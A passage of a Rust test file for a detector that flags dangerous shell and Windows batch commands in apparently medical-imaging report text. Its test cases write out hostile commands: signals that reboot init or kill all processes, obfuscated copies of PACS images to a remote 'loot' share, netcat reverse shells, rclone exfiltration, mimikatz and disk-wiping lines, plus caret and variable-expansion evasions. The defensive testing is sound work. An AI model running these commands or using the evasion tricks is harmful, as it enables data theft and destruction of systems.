            "kill -SIGRTMIN+14 1
",
            "kill -rtmin+15 1
",
            "kill -38 1
",
            "kill -RTMAX-14 1
",
            "kill -n 39 1
",
            "kill -INT -- 1
",
            "kill -INT 1234 1
",
            "kill -USR2 01
",
            "kill -TERM 1
",
            "kill -15 1
",
            // Review rv46-screen: CR LF line ends, numbers written another way, a
            // signal given again (the last one is sent), zero-padded signal numbers.
            "kill -INT 1\r\n",
            "kill -s INT -- -1\r\n",
            "Patient moved.\r\nkill -s RTMIN+4 1\r\nDone.\r\n",
            "kill -INT +1
",
            "kill -INT ' 1'
",
            "kill -s INT -- -01
",
            "kill -s INT -- -+1
",
            "kill -s INT -- '- 1'
",
            "kill -s HUP -s INT 1
",
            "kill -HUP -n 2 1
",
            "kill -s 0002 1
",
            "kill -0002 1
",
            "kill -s 00000000038 1
",
            "kill -s 0015 -- -1
",
            "kill -TERM -1
",
            "kill -9 -1
",
            "kill -- -1
",
            "kill -s KILL -1
",
            "sudo kill -INT 1
",
            "env kill -s RTMIN+4 1
",
            "'kill' -INT 1
",
            "echo x; kill -INT 1; echo y
",
        ] {
            let found = find_shell_command(text.as_bytes()).map(|found| found.severity);
            assert_eq!(found, Some(Severity::Alert), "{text:?}");
        }
        for text in [
            "kill -9 1234
",
            "kill %1
",
            "kill -l
",
            "kill -l 38
",
            "kill -L
",
            "kill -1
",
            "kill -HUP 1
",
            "kill -9 1
",
            "kill -INT 12
",
            "kill -INT 10
",
            "kill -0 -1
",
            "kill -CONT -1
",
            "kill -FOO 1
",
            "kill -INT -1234
",
            "kill -s RTMIN+20 1
",
            "process 1 was killed
",
            // The default TERM to PID 1 restarts systemd: prose at a line's start.
            "kill 1
",
            "Dose escalation is expected to
kill 1 in 10 clonogens per fraction.
",
            "kill -s HUP -s 0 1
",
            "the kill switch 1
",
        ] {
            assert_eq!(find_shell_command(text.as_bytes()), None, "{text:?}");
        }
        // Every signal of the table stops init by number and by name.
        for (number, _) in sh::PID1_POWER_SIGNALS {
            let text = format!("kill -{number} 1\n");
            let found = find_shell_command(text.as_bytes()).map(|found| found.severity);
            assert_eq!(found, Some(Severity::Alert), "{text:?}");
        }
    }

    /// Review rv46-screen (issue 10, case2): other programs that signal PID 1 or every
    /// process were clean. Read as procps `pkill`, psmisc `killall` and sysvinit (or
    /// busybox) `killall5` read their options, with the one table of signals
    /// (`sh::PID1_POWER_SIGNALS`) `kill` uses; a pattern or name that matches init or
    /// systemd reaches PID 1, one that matches every name reaches every process.
    #[test]
    fn pkill_killall_and_killall5_that_reach_init_or_every_process_are_commands() {
        for text in [
            "pkill -INT -x systemd\n",
            "pkill -INT systemd\n",
            "pkill -9 .\n",
            "pkill -KILL ''\n",
            "pkill -RTMIN+4 init\n",
            "pkill --signal RTMIN+4 -x init\n",
            "pkill --signal=SIGINT -i SYSTEMD\n",
            "pkill -RTMIN+4 -P 0\n",
            "pkill -INT -u root\n",
            "pkill -INT -U 0,1000\n",
            "pkill --ns 1 -INT\n",
            "pkill -f -INT /sbin/init\n",
            "pkill -x systemd -INT\n",
            "pkill -fx -INT '/lib/systemd/systemd'\n",
            "pkill -u root -INT -x systemd\n",
            "pkill -9 -x '.*'\n",
            "killall -s RTMIN+4 systemd\n",
            "killall -INT init\n",
            "killall -2 systemd\n",
            "killall --signal=INT /sbin/init\n",
            "killall -r -9 .\n",
            "killall -I -INT SystemD\n",
            "killall5 -9\n",
            "killall5 -15\n",
            "killall5 -TERM\n",
            "killall5\n",
            "killall5 -9 -o 1234\n",
            "sudo pkill -INT -x systemd\n",
            "'killall' -INT init\n",
            // Review rv49-screen (case3.sh, each checked with real procps and psmisc):
            // getopt_long's prefixes, strtol's and atoi's numbers, the signal after `--`,
            // killall's `-long` options, paths to init's file, `-u` with no name.
            "pkill --sig=INT -x systemd\n",
            "pkill --sig INT -x systemd\n",
            "pkill -INT --exa systemd\n",
            "pkill -INT --ful /sbin/init\n",
            "pkill -+2 -x systemd\n",
            "pkill -' 2' -x systemd\n",
            "pkill -x -- -INT systemd\n",
            "pkill -INT '[s]ystemd'\n",
            "pkill -INT -x '[st]ystem[a-f]'\n",
            "killall -signal INT systemd\n",
            "killall --sig INT systemd\n",
            "killall -2x systemd\n",
            "killall -s 2x systemd\n",
            "killall -r -INT '[s]ystemd'\n",
            "killall5 +9\n",
            "killall -INT /proc/1/exe\n",
            "killall -INT /sbin/./init\n",
            "killall -INT //sbin//init\n",
            "killall -INT /usr/sbin/init\n",
            "killall -INT -u root\n",
        ] {
            let found = find_shell_command(text.as_bytes()).map(|found| found.severity);
            assert_eq!(found, Some(Severity::Alert), "{text:?}");
        }
        for text in [
            "pkill -f myjob\n",
            "pkill -HUP -x storescp\n",
            "pkill -INT -x storescp\n",
            "pkill -9 storescp\n",
            "pkill -HUP -x systemd\n",
            "pkill -INT\n",
            "pkill -INT -x systemd-journald\n",
            "pkill -INT -n systemd\n",
            "pkill -INT -A systemd\n",
            "pkill -INT -u pacs systemd\n",
            "pkill -INT -P 1234 systemd\n",
            "pkill -INT -INT systemd\n",
            "pkill -CONT .\n",
            "pkill -INT systemd init\n",
            "killall firefox\n",
            "killall -HUP storescp\n",
            "killall -INT storescp\n",
            "killall -INT -i init\n",
            "killall -l\n",
            "killall -9 .\n",
            "killall -INT -y 5m systemd\n",
            "killall5 -0\n",
            "killall5 -18\n",
            "killall5 -o 1234 -9\n",
            "killall5 -l\n",
            "The nurse will pkill the old job.\n",
            // Review rv49-screen: a user's, a group's or a namespace's processes are
            // not every process (each alerted as one).
            "pkill -9 -u pacs\n",
            "pkill -u orthanc\n",
            "pkill -9 -u pacs,orthanc\n",
            "pkill -TERM -U 1001\n",
            "pkill -TERM -G imaging\n",
            "pkill --ns 4242 -TERM\n",
            "pkill -KILL --euid dcmexport\n",
            "pkill -HUP -f '[n]ginx'\n",
            "pkill -INT '[^s]ystemd'\n",
            "pkill --s INT systemd\n",
            "killall -INT -u pacs\n",
            "killall -INT /usr/sbin/sshd\n",
        ] {
            assert_eq!(find_shell_command(text.as_bytes()), None, "{text:?}");
        }
        // Review rv49-screen item 1: a pattern the model cannot match is said (a
        // `not-inspected` warning quoting it), never read as "no match" (procps and
        // psmisc matched init with each: pgrep against a stand-in named systemd).
        let long = format!("pkill -INT -x '{}ystemd'\n", "s?".repeat(32));
        for text in [
            "pkill -INT -x '(systemd|init)'\n",
            "pkill -INT -x 'init|systemd'\n",
            "pkill -INT '\\<systemd'\n",
            "pkill -INT '\\`systemd'\n",
            "pkill -INT -x 'sy{1}stemd'\n",
            "killall -r -INT '(systemd)'\n",
            "pkill -9 '(a|.)'\n",
            &long,
        ] {
            let found = find_shell_command(text.as_bytes());
            let found = found.as_ref().map(|f| (f.severity, f.kind));
            assert_eq!(
                found,
                Some((Severity::Warning, FindingKind::NotInspected)),
                "{text:?}"
            );
        }
        let found = find_shell_command(b"pkill -INT -x 'init|systemd'\n").expect("warned");
        assert!(found.detail.contains("init|systemd"), "{}", found.detail);
        // A signal no process dies of, or a pattern kept to a user: nothing to tell.
        for text in [
            "pkill -CONT '(a|b)'\n",
            "pkill -INT -u pacs '(systemd|init)'\n",
        ] {
            assert_eq!(find_shell_command(text.as_bytes()), None, "{text:?}");
        }
    }

    /// Review rv46-screen (issue 10, item 2): a process written as the shell reduces it
    /// to 1 or -1 (quoted, an arithmetic expansion, `$(echo 1)`) is that process.
    #[test]
    fn kill_operands_the_shell_reduces_to_one_are_that_process() {
        for text in [
            "kill -INT \"1\"\n",
            "kill -INT '1'\n",
            "kill -INT \\1\n",
            "kill -INT $((1))\n",
            "kill -INT \"$(( 1 ))\"\n",
            "kill -INT $((2-1))\n",
            "kill -INT $((0+1))\n",
            "kill -9 $((-1))\n",
            "kill -9 -- \"$((0-1))\"\n",
            "kill -INT $(echo 1)\n",
            "kill -INT `echo 1`\n",
            "kill -s \"INT\" 1\n",
            "pkill -INT -x \"systemd\"\n",
        ] {
            let found = find_shell_command(text.as_bytes()).map(|found| found.severity);
            assert_eq!(found, Some(Severity::Alert), "{text:?}");
        }
        for text in [
            "kill -INT $((2))\n",
            "kill -INT $((1+1))\n",
            "kill -9 $((1))\n",
            "kill -INT $((12))\n",
            "kill -INT $((010))\n",
            "kill -INT \"12\"\n",
        ] {
            assert_eq!(find_shell_command(text.as_bytes()), None, "{text:?}");
        }
    }

    /// Review rv46-screen (issue 10, item 3): the alert says what the signal does.
    #[test]
    fn a_signal_alert_says_what_the_signal_does() {
        for (text, says) in [
            ("kill -INT 1\n", "systemd reboots"),
            ("kill -s RTMIN+4 1\n", "systemd powers off"),
            ("kill -s RTMIN+3 1\n", "systemd halts"),
            ("kill -9 -1\n", "every process"),
            ("pkill -INT -x systemd\n", "systemd reboots"),
            ("killall -s RTMIN+4 systemd\n", "systemd powers off"),
            ("pkill -9 .\n", "every process"),
            ("killall5 -9\n", "every process but init"),
        ] {
            let found = find_shell_command(text.as_bytes()).expect(text);
            assert!(found.detail.contains(says), "{text:?}: {}", found.detail);
            assert!(
                found.detail.contains("PID 1") || found.detail.contains("every process"),
                "{}",
                found.detail
            );
        }
    }

    /// Review rv43-screen (issue 10, case6, checked with dash): an operand that expands
    /// to nothing is no operand once expanded, so the power command runs bare
    /// (`reboot $NOPE` reboots). A word that is only expansions may be empty: the
    /// command counts.
    #[test]
    fn power_commands_with_an_operand_that_may_expand_to_nothing_are_commands() {
        for text in [
            "reboot $NOPE\n",
            "reboot \"$@\"\n",
            "reboot $(true)\n",
            "halt ${X:-}\n",
            "x=; halt $x; echo\n",
            "reboot `true`\n",
        ] {
            let found = find_shell_command(text.as_bytes()).map(|found| found.severity);
            assert_eq!(found, Some(Severity::Alert), "{text:?}");
        }
        for text in [
            "reboot x$NOPE\n",
            "halt the ${X} infusion\n",
            "the cost of a reboot $5\n",
        ] {
            assert_eq!(find_shell_command(text.as_bytes()), None, "{text:?}");
        }
    }

    /// Review rv43-screen (issue 10, case5, checked with dash): a runlevel or time made
    /// of expansions (`L=0; init $L`, `init $((3-3))`, `T=now; shutdown $T`) may be one
    /// that acts: the command counts.
    #[test]
    fn a_runlevel_or_time_made_of_expansions_counts() {
        for text in [
            "L=0; init $L\n",
            "L=0; init ${L}\n",
            "R=6\ntelinit \"$R\"\n",
            "init $((3-3))\n",
            "init $(echo 0)\n",
            "T=now; shutdown $T\n",
            "z() { init $1; }\nz 0\n",
        ] {
            let found = find_shell_command(text.as_bytes()).map(|found| found.severity);
            assert_eq!(found, Some(Severity::Alert), "{text:?}");
        }
        for text in ["init $L mg\n", "Init $L\n", "init x$L\n"] {
            assert_eq!(find_shell_command(text.as_bytes()), None, "{text:?}");
        }
    }

    /// Review of session 41 (issue 10, item 1): variable tricks cmd.exe expands from the
    /// file's own `set` commands were clean: delayed expansion (`!s!`), a substring
    /// (`%s:~0%`, `%s:~0,20%`), a replacement (`%s:x=l%`), a value set from another
    /// (`set t=%s%`), and the program's name in a variable (`%c%`).
    #[test]
    fn variable_tricks_are_expanded_as_cmd_expands_them() {
        assert_alerts(
            &[
                "setlocal enabledelayedexpansion\r\nset s=\\\\198.51.100.7\\loot\r\ncopy C:\\PACS\\*.dcm !s!",
                "set s=\\\\198.51.100.7\\loot\r\ncopy C:\\PACS\\*.dcm %s:~0%",
                "set s=\\\\198.51.100.7\\loot\r\ncopy C:\\PACS\\*.dcm %s:~0,20%",
                "set s=\\\\198.51.100.7\\xoot\r\ncopy C:\\PACS\\*.dcm %s:x=l%",
                "set s=\\\\198.51.100.7\\loot\r\nset t=%s%\r\ncopy C:\\PACS\\*.dcm %t%",
                "set c=copy\r\nset s=\\\\198.51.100.7\\loot\r\n%c% C:\\PACS\\*.dcm %s%",
            ],
            &[false, true],
        );
        // The substring keeps no share: copy is given a local folder.
        assert_clean(&["set s=C:\\backup\\\\198.51.100.7\\loot\r\ncopy C:\\PACS\\*.dcm %s:~0,9%"]);
        assert_eq!(edited(b"abcdef", b"~-2"), Some(b"ef".to_vec()));
        assert_eq!(edited(b"abcdef", b"~1,-1"), Some(b"bcde".to_vec()));
        assert_eq!(edited(b"abcAbc", b"a=x"), Some(b"xbcxbc".to_vec()));
        assert_eq!(edited(b"abcdef", b"*c=Z"), Some(b"Zdef".to_vec()));
    }

    /// Review rv43-screen (issue 10, case1 and case2): a `goto` runs a line after any of
    /// a variable's `set` commands. The values tried for arguments were not tried for a
    /// program's name (`%c%` with `set c=copy` after a `goto`, or set twice), nor for a
    /// value set from another variable set after it (`set s=%t%`, `t` set after a
    /// `goto`).
    #[test]
    fn every_value_of_a_variable_is_tried_for_names_and_values_built_from_it() {
        assert_alerts(
            &[
                "goto a\r\n:b\r\n%c% C:\\PACS\\*.dcm \\\\198.51.100.7\\loot\r\ngoto :eof\r\n:a\r\nset c=copy\r\ngoto b",
                "set c=echo\r\ngoto a\r\n:b\r\n%c% /r /t 0\r\ngoto :eof\r\n:a\r\nset c=shutdown\r\ngoto b",
                "goto a\r\n:b\r\nset s=%t%\r\ncopy C:\\PACS\\*.dcm %s%\r\ngoto :eof\r\n:a\r\nset t=\\\\198.51.100.7\\loot\r\ngoto b",
                "set u=C:\\x\r\ngoto a\r\n:b\r\nset t=%u%\r\nset s=%t%\r\ncopy C:\\PACS\\*.dcm %s%\r\ngoto :eof\r\n:a\r\nset u=\\\\198.51.100.7\\loot\r\ngoto b",
            ],
            &[false, true],
        );
        assert_clean(&[
            "set c=echo\r\n%c% /r /t 0\r\nset c=type\r\n%c% a.txt",
            "set t=C:\\x\r\nset s=%t%\r\ncopy C:\\PACS\\*.dcm %s%\r\nset t=D:\\y",
        ]);
        // More values than are tried: said, never silent.
        let many: String = (0..=MAX_VARIABLE_VALUES_TRIED)
            .map(|n| format!("set t=C:\\d{n}\r\n"))
            .collect();
        let line =
            format!("goto a\r\n:b\r\nset s=%t%\r\ncopy C:\\PACS\\*.dcm %s%\r\n:a\r\n{many}goto b");
        let found = found(line.as_bytes(), false).expect("a warning");
        assert!(
            found.detail.contains("MAX_VARIABLE_VALUES_TRIED"),
            "{}",
            found.detail
        );
    }

    /// Review of session 41 (issue 10, item 1): a program named by a variable had its
    /// arguments left unexpanded, so `%c%` and 16 unset variables said no bound; an
    /// argument read from input is said not inspected.
    #[test]
    fn arguments_of_a_program_in_a_variable_are_expanded_and_what_is_unknown_is_said() {
        let past = format!(
            "set c=copy\r\n%c% \"C:\\PACS\\{}\" %s%",
            "%a%".repeat(MAX_EXPANDED_ARGUMENTS)
        );
        let from_input = "set /p s=where\r\ncopy C:\\PACS\\*.dcm %s%";
        for (line, named) in [
            (past.as_str(), "MAX_EXPANDED_ARGUMENTS"),
            (from_input, "set /p"),
        ] {
            for binary in [false, true] {
                let found = found(line.as_bytes(), binary).expect("a warning");
                assert_eq!(found.kind, FindingKind::NotInspected, "{}", found.detail);
                assert!(found.detail.contains(named), "{}", found.detail);
            }
        }
    }

    /// Review of session 41 (issue 10, item 2): the expansion had no per-file budget
    /// (80,000 `copy a %s%…` lines, 25.4 s). Its work stops at `MAX_EXPANDED_BYTES`
    /// whatever the file's size, said as a `not-inspected` warning naming it, and an
    /// alert after it is still found.
    #[test]
    fn the_expansion_has_a_per_file_budget_said_when_reached() {
        let file = |lines: usize| {
            let mut text = format!("set s={}\r\n", "v".repeat(200));
            text.push_str(&"copy a %s%%s%%s%%s%\r\n".repeat(lines));
            text
        };
        let mut work = Vec::new();
        for lines in [4_000, 8_000] {
            tests::EXPANDED.with(|n| n.set(0));
            let found = find_batch_command(file(lines).as_bytes()).expect("a warning");
            assert_eq!(found.kind, FindingKind::NotInspected, "{}", found.detail);
            assert!(
                found.detail.contains("MAX_EXPANDED_BYTES"),
                "{}",
                found.detail
            );
            work.push(tests::EXPANDED.with(std::cell::Cell::get));
        }
        // Twice the lines, no more work: the budget, not the file, bounds it.
        assert!(work.iter().all(|&n| n <= MAX_EXPANDED_BYTES), "{work:?}");
        assert_eq!(work[0], work[1]);
        let with_alert = format!("{}powershell -enc SQBFAFgA\r\n", file(8_000));
        let found = find_batch_command(with_alert.as_bytes()).expect("an alert");
        assert_eq!(found.severity, Severity::Alert, "{}", found.detail);
    }

    /// Review of session 41 (issue 10, item 4): a file named alone on a batch line runs
    /// by its association when Windows opens it into code without a prompt (`.chm`:
    /// HTML Help's scripts, `.url`: the shell follows it, `.jar`: javaw); `.reg` (regedit
    /// asks) and `.ps1` (Notepad) stay clean.
    #[test]
    fn files_windows_opens_into_code_alone_on_a_line_run() {
        assert_alerts(&["evil.hta", "evil.lnk"], &[false]);
        assert_clean(&["evil.reg", "evil.ps1"]);
    }

    /// Review rv42-screen (1): a report's list of attachments names files alone on their
    /// lines, in any case; `.chm`, `.url` and `.jar` so named alerted for one version
    /// (false alarms on "Attachments:" lists). They are prose; the same names handed to a
    /// launcher still run.
    #[test]
    fn attachment_names_alone_on_a_line_are_prose() {
        assert_clean(&[
            "Attachments:\r\ndose_report.pdf\r\nprotocol.jar\r\nguide.chm\r\nportal.url\r\n",
            "viewer.jar",
            "Protocol.JAR",
            "guide.chm\nportal.url",
        ]);
        assert_alerts(
            &["start evil.chm", "start portal.url", "START viewer.JAR"],
            &[false],
        );
    }

    /// Review of session 41 (issue 10, item 1): a `for /f` over a share whose variable
    /// is the program runs what the share serves; over a local set it is not known here.
    #[test]
    fn a_program_from_a_for_loops_variable_is_said() {
        assert_alerts(
            &[
                "for /f %%a in (\\\\198.51.100.7\\s\\list.txt) do %%a",
                "for /f \"delims=\" %%a in ('type \\\\198.51.100.7\\s\\x') do %%a",
            ],
            &[false, true],
        );
        let found = found(b"for /f %%a in (list.txt) do %%a", false).expect("a warning");
        assert_eq!(found.kind, FindingKind::NotInspected, "{}", found.detail);
        assert_clean(&["For 10% of cases, do more"]);
    }

    /// Review of session 42 (issue 10, class 2): cmd.exe removes carets outside quotes
    /// (phase 2 of its parser) before it names the program, so `c^o^p^y` is `copy` and
    /// `c^md` is `cmd`: judged as every known tool is, not only `shutdown`.
    #[test]
    fn carets_in_every_known_tools_name_are_removed_before_it_is_judged() {
        assert_alerts(
            &[
                "c^o^p^y C:\\PACS\\*.dcm \\\\198.51.100.7\\s",
                "c^md /c calc.exe",
                "c^m^d /c powershell -enc SQBFAFgA",
                "f^o^r^m^a^t D: /q /y",
                "x^c^o^p^y C:\\PACS \\\\198.51.100.7\\s /s",
                "s^hutdown /r /t 0",
                "r^d /s /q C:\\PACS",
                "set s=\\\\198.51.100.7\\loot\r\nc^o^p^y C:\\PACS\\*.dcm %s%",
                "set s=\\\\198.51.100.7\\loot\r\n\"c\"op^y C:\\PACS\\*.dcm %s%",
            ],
            &[false, true],
        );
        assert_clean(&["c^^opy of the report", "\"c^o^p^y\" of the report"]);
    }

    /// Review of session 42 (issue 10, class 3): `call` expands its command's line a
    /// second time, after the first pass made `%%` a `%`: `%%s%%` and `%%s:~%n%%%` are
    /// the share then (cmd.exe's documented `call` rule).
    #[test]
    fn call_expands_its_line_a_second_time() {
        assert_alerts(
            &[
                "set s=\\\\198.51.100.7\\loot\r\ncall copy C:\\PACS\\*.dcm %%s%%",
                "set n=0\r\nset s=\\\\198.51.100.7\\loot\r\ncall copy C:\\PACS\\*.dcm %%s:~%n%%%",
                "set s=\\\\198.51.100.7\\loot\r\n@call xcopy C:\\PACS %%s%% /s",
            ],
            &[false, true],
        );
        // Without `call` the doubled percent stays a literal `%s%` for copy.
        assert_clean(&["set s=\\\\198.51.100.7\\loot\r\ncopy C:\\PACS\\*.dcm %%s%%"]);
    }

    /// Review of session 42 (issue 10, class 4): `goto` runs a line after a `set` that
    /// follows it in the file: each value a variable takes anywhere in the file is tried
    /// (more alerts, never fewer), to MAX_VARIABLE_VALUES_TRIED, past which the line is
    /// a `not-inspected` warning naming it.
    #[test]
    fn a_variable_set_after_its_use_reached_by_goto_is_tried() {
        assert_alerts(
            &[
                "goto a\r\n:b\r\ncopy C:\\PACS\\*.dcm %s%\r\ngoto :eof\r\n:a\r\nset s=\\\\198.51.100.7\\x\r\ngoto b",
                "set s=C:\\backup\r\ngoto a\r\n:b\r\ncopy C:\\PACS\\*.dcm %s%\r\ngoto :eof\r\n:a\r\nset s=\\\\198.51.100.7\\x\r\ngoto b",
            ],
            &[false, true],
        );
        let many: String = (0..=MAX_VARIABLE_VALUES_TRIED)
            .map(|k| format!("set s=C:\\backup{k}\r\n"))
            .collect();
        let line = format!("copy C:\\PACS\\*.dcm %s%\r\n{many}");
        let found = found(line.as_bytes(), false).expect("a warning");
        assert_eq!(found.kind, FindingKind::NotInspected, "{}", found.detail);
        assert!(
            found.detail.contains("MAX_VARIABLE_VALUES_TRIED"),
            "{}",
            found.detail
        );
        // Local values only, fewer than the bound: nothing to say.
        assert_clean(&["copy C:\\PACS\\*.dcm %s%\r\nset s=C:\\backup\r\nset s=D:\\old"]);
        // The tries of a whole file are charged to the expansion's budget: twice the
        // lines, no more work, and the budget reached is said.
        let mut work = Vec::new();
        for lines in [25_000, 50_000] {
            let text = format!(
                "x\r\nset s=C:\\a\r\n{}set s=D:\\b\r\n",
                "copy C:\\PACS\\archive\\series\\000001\\image.dcm %s%\r\n".repeat(lines)
            );
            tests::EXPANDED.with(|n| n.set(0));
            let spent = find_batch_command(text.as_bytes()).expect("a warning");
            assert!(
                spent.detail.contains("MAX_EXPANDED_BYTES"),
                "{}",
                spent.detail
            );
            work.push(tests::EXPANDED.with(std::cell::Cell::get));
        }
        assert!(work.iter().all(|&n| n <= MAX_EXPANDED_BYTES), "{work:?}");
        assert_eq!(work[0], work[1]);
    }

    /// Review of session 42 (issue 10, class 6): the budget's warning named "a variable
    /// set from a loop" where the budget had stopped the expansion of `set` values; and
    /// a line longer than cmd.exe's CMD_LINE_LIMIT once expanded is said.
    #[test]
    fn the_budget_and_the_line_limit_are_named_when_reached() {
        // Values of 8 KiB each (doubled to cmd.exe's line limit): the budget runs out
        // on the `set` values, before the `copy` line is read.
        let mut text = format!("set b0={}\r\n", "v".repeat(200));
        for k in 1..6 {
            text.push_str(&format!("set b{k}=%b{0}%%b{0}%\r\n", k - 1));
        }
        for k in 0..200 {
            text.push_str(&format!("set c{k}=%b5%\r\n"));
        }
        text.push_str("copy C:\\PACS\\*.dcm %c199%\r\n");
        let spent = find_batch_command(text.as_bytes()).expect("a warning");
        assert_eq!(spent.kind, FindingKind::NotInspected, "{}", spent.detail);
        assert!(
            spent.detail.contains("MAX_EXPANDED_BYTES") && !spent.detail.contains("loop"),
            "{}",
            spent.detail
        );
        // Values are kept to 256 bytes as written, to CMD_LINE_LIMIT built: doubled.
        let mut doubled = format!("set b0={}\r\n", "v".repeat(250));
        for k in 1..6 {
            doubled.push_str(&format!("set b{k}=%b{0}%%b{0}%\r\n", k - 1));
        }
        let long = format!("{doubled}copy C:\\PACS\\*.dcm %b5%%b5%");
        let found = found(long.as_bytes(), false).expect("a warning");
        assert_eq!(found.kind, FindingKind::NotInspected, "{}", found.detail);
        assert!(found.detail.contains("CMD_LINE_LIMIT"), "{}", found.detail);
        // A share pushed past the limit is never silence: the line is said.
        let hidden =
            format!("{doubled}set s=\\\\198.51.100.7\\x\r\ncopy %b5%%b5%C:\\PACS\\*.dcm %s%");
        let said = self::found(hidden.as_bytes(), false).expect("a warning");
        assert!(said.detail.contains("CMD_LINE_LIMIT"), "{}", said.detail);
    }

    /// Review of session 42 (issue 10, class 7): cmd.exe ends a program's name at `,`,
    /// `;` and `=` as at a blank, so `shutdown,/s,/t,0` runs shutdown.exe with the
    /// arguments `,/s,/t,0`. How shutdown.exe splits them is not verifiable here: read
    /// split at those delimiters too, the side of more alerts (session 41 alerted).
    #[test]
    fn shutdown_with_cmds_delimiters_between_its_switches_acts() {
        assert_alerts(
            &["shutdown,/s,/t,0", "shutdown;/r;/t;0", "shutdown=/s=/f"],
            &[false, true],
        );
        assert_clean(&["shutdown, then restart of the scanner"]);
    }

    /// Review of session 42 (issue 10, class 5): a `for` loop's variable as the program
    /// or an argument of a known tool is what the loop yields when the file runs: a
    /// `not-inspected` warning at least, for every `for` form (`/f` with options, `/r`,
    /// `/l`, `/d`, plain), as CHANGELOG promised.
    #[test]
    fn a_loop_variable_as_a_known_tools_program_or_argument_is_said() {
        for line in [
            "for /f \"usebackq\" %%i in (`type list.txt`) do %%i /s /t 0",
            "for /f \"tokens=1,2 delims=,\" %%i in (list.txt) do %%i %%j",
            "for /f %%i in (list.txt) do shutdown %%i",
            "for /r C:\\ %%i in (*) do %%i",
            "for /l %%i in (1,1,3) do %%i",
            "for /d %%i in (*) do %%i",
            "for %%i in (a b) do %%i",
            "for %%i in (a b) do shutdown %%i",
            "for /f %%i in (list.txt) do copy C:\\PACS\\*.dcm %%i",
            "for /f %%i in (list.txt) do (shutdown %%i)",
        ] {
            for binary in [false, true] {
                let found = found(line.as_bytes(), binary);
                assert!(
                    found
                        .as_ref()
                        .is_some_and(|found| found.severity >= Severity::Warning),
                    "{line:?} (binary: {binary}): {found:?}"
                );
            }
        }
        assert_clean(&["For each series, do %%i checks"]);
    }

    /// Review rv41-screen (F1): report lines that `start` or `at` read as handing a plain
    /// name (`Start heparin`, `At 2:00 PM`), or a domain alone (`Radiology.com`), are
    /// prose: a plain word after `start`/`at` counts only as a tool named here
    /// ([`known_tool`]), and `/word` after it makes no switch.
    #[test]
    fn a_plain_word_after_start_or_at_counts_only_as_a_known_tool() {
        assert_clean(&[
            "Start heparin",
            "Start anticoagulation",
            "Start scan",
            "Start IV",
            "Start CT",
            "Start breath-hold",
            "Start aspirin/clopidogrel",
            "Start CT/MR",
            "At 14:32 callback",
            "at 16:45 hours",
            "At 2:00 PM",
            "At 12:00 noon",
            "At 10:15 patient",
            "MEDIMAGING.COM",
            "Radiology.com",
        ]);
        assert_alerts(
            &[
                "start mimikatz",
                "start mimikatz foo",
                "start rclone copy C:\\PACS remote:loot",
                "start \"\" rclone copy C:\\PACS remote:loot",
                "start /b psexec \\\\198.51.100.7 cmd",
                "at 23:00 mimikatz foo",
                "at 23:00 rclone copy C:\\PACS remote:",
            ],
            &[false, true],
        );
        assert_alerts(
            &["mimikatz.com", "rclone.com 2>nul", "start evil.msc"],
            &[false],
        );
    }

    /// Review rv41-screen (M1): a command inside a `( … )` block ends at the block's `)`,
    /// alone or glued to its last word; the `)` is no operand (copy's third) and no
    /// switch (shutdown's `/r)`). Session 40 alerted on each.
    #[test]
    fn a_blocks_closing_parenthesis_ends_the_command() {
        assert_alerts(
            &[
                "if exist C:\\PACS ( copy C:\\PACS\\*.dcm \\\\198.51.100.7\\s )",
                "for %f in (C:\\PACS\\*.dcm) do ( copy \"%f\" \\\\198.51.100.7\\s )",
                "if exist C:\\PACS ( xcopy C:\\PACS \\\\198.51.100.7\\s /s /e )",
                "if exist C:\\PACS ( move C:\\PACS\\*.dcm \\\\198.51.100.7\\s)",
                "if 1==1 ( shutdown /r /t 0 )",
                "if %errorlevel%==0 ( shutdown /s /f /t 0 ) else ( echo ok )",
                "(shutdown /t 0 /r)",
                "if 1==1 (shutdown /s /t 0 /f)",
            ],
            &[false, true],
        );
        // A `)` that a `(` of the word opened is the word's (`a(1).dcm`).
        assert_alerts(
            &["copy C:\\PACS\\a(1).dcm \\\\198.51.100.7\\s(2)"],
            &[false],
        );
    }

    /// Review rv41-screen (F1): a share written with slashes beside a word of prose is
    /// prose (`Copy at //PACSRV01/reports/`); beside a path it is a copy to a share.
    #[test]
    fn a_slashed_share_counts_beside_a_path_only() {
        assert_clean(&[
            "Copy at //PACSRV01/reports/",
            "move to //pacs02/archive",
            "expand to //server/path/",
        ]);
        assert_alerts(
            &[
                "copy C:\\PACS\\a.dcm //198.51.100.7/loot/",
                "move *.dcm //198.51.100.7/loot/",
            ],
            &[false],
        );
    }

    /// Review rv41-screen (M2): `cmd /c NAME args` runs NAME whatever its arguments, as
    /// session 40 read it (a name after `/c` apart from it is a command line's form,
    /// never prose's); `call X` is X. Only cmd's commands that print (`echo`, `ver`, …)
    /// count with a redirection or an operator alone.
    #[test]
    fn a_plain_name_after_cmd_c_counts_whatever_its_arguments() {
        assert_alerts(
            &[
                "cmd /c rclone copy C:\\PACS mega:loot",
                "cmd /c nc 198.51.100.7 4444 -e cmd.exe",
                "cmd /c plink root@198.51.100.7 -R 3389:127.0.0.1:3389",
                "cmd /c python evil.py",
                "cmd /c winrar a -hpSECRET loot.rar C:\\PACS",
                "cmd /c mimikatz exit",
                "cmd /c mimikatz 1",
                "cmd /c \"mimikatz foo\"",
                "cmd /c mimikatz x 2>nul",
                "cmd /c call mimikatz",
                "cmd /c call evil foo",
                "cmd /c type C:\\PACS\\a.dcm > \\\\198.51.100.7\\s\\a.dcm",
                "cmd /c date 01-01-2000",
                "( cmd /c mimikatz )",
            ],
            &[false, true],
        );
        assert_clean(&[
            "cmd /c echo of CBD seen",
            "CMD /C ECHO normal",
            "CMD /CBD dilated",
            "cmd /c ver",
        ]);
    }

    /// Every ambiguous tool is judged by a rule of its arguments: its switches, its
    /// subcommands, or [`argues_danger`].
    #[test]
    fn every_ambiguous_tool_has_a_rule_for_its_arguments() {
        for tool in AMBIGUOUS_BATCH {
            assert!(BATCH.contains(&tool), "{}", String::from_utf8_lossy(tool));
            let ruled = BATCH_SWITCHES.iter().any(|(name, _, _)| *name == tool)
                || BATCH_SUBCOMMANDS.iter().any(|(name, _)| *name == tool)
                || ARGUED_BATCH.contains(&tool);
            assert!(ruled, "{}", String::from_utf8_lossy(tool));
        }
    }

    /// Review rv43-screen (issue 10, case3): cmd.exe removes carets outside quotes
    /// before it recognises `call`, so `c^a^l^l copy …` calls `copy`.
    #[test]
    fn carets_in_call_are_removed_before_it_is_recognised() {
        assert_alerts(
            &[
                "c^a^l^l copy C:\\PACS\\*.dcm \\\\198.51.100.7\\loot",
                "c^all shutdown /r /t 0",
